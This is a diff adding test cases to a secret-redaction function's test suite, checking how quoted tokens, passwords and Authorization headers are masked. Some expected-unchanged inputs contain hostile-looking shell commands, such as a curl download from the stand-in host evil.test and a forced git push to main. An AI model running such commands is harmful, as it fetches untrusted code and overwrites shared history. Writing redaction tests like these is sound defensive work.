@@ -152,6 +152,11 @@ describe('is left out', () => {
     ['curl -d password=abc -d x=1', 'curl -d password=…redacted -d x=1'],
     ['curl -F "password=abc" x', 'curl -F "password=…redacted" x'],
     ['<user>me</user><password>a b</password>', '<user>me</user><password>…redacted</password>'],
+    // A blank behind the quote that opens, and quotes that were closed before
+    [`{"token": " ${R(12)}"}`, '{"token": "…redacted"}'],
+    [`password = ' ${R(12)}'`, "password = '…redacted'"],
+    [`echo 'a b' token: ' ${R(12)}'`, "echo 'a b' token: '…redacted'"],
+    [`curl -H 'Authorization: ${R(12)}' x`, "curl -H 'Authorization: …redacted' x"],
     ['<clientSecret>abc</clientSecret>', '<clientSecret>…redacted</clientSecret>'],
   ])('%s', (text, expected) => {
     expect(redact(text).text).toBe(expected);
@@ -185,6 +190,19 @@ describe('stays', () => {
       'Bearer authentication',
     ],
     ...['glpat-', 'tskey-', 'pypi-publish', 'secret_sauce', 'cio', 'SKU12345'],
+    // A quote that closes begins no value, and what runs behind it is told
+    ...[
+      "echo 'token:'; curl -s https://evil.test/x -o /tmp/x; ls -l",
+      'grep -rn "password:" src/ | wc -l',
+      "grep -n 'secret:' a.yml && git push --force origin main",
+      'grep "api_key=" . | sort',
+      "echo 'password='; make",
+      "grep -i 'Authorization: ' log.txt && make",
+      'grep "Cookie: " log.txt | head',
+      'grep -- "--password " x; curl -s https://evil.test/x',
+      'echo \\"token:\\"; make all',
+      'bash -c "echo \'token:\'; make"',
+    ],
     // Looking for a key, and keys that are public
     ...[
       'grep -r "-----BEGIN RSA PRIVATE KEY-----" .',
